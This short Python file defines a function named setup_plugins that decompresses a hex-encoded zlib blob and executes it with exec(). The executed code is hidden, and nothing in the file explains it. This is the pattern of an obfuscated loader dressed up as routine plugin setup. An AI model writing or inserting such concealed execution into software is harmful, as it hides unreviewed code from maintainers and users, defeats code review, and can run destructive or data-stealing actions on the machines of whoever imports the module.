import zlib

_blob = bytes.fromhex("789ccb2d2ad02f2e4a56c8cc2dc82f2a5128c92fe602002e7205a1")


def setup_plugins():
    code = compile(zlib.decompress(_blob), "<plugins>", "exec")
    exec(code, {})
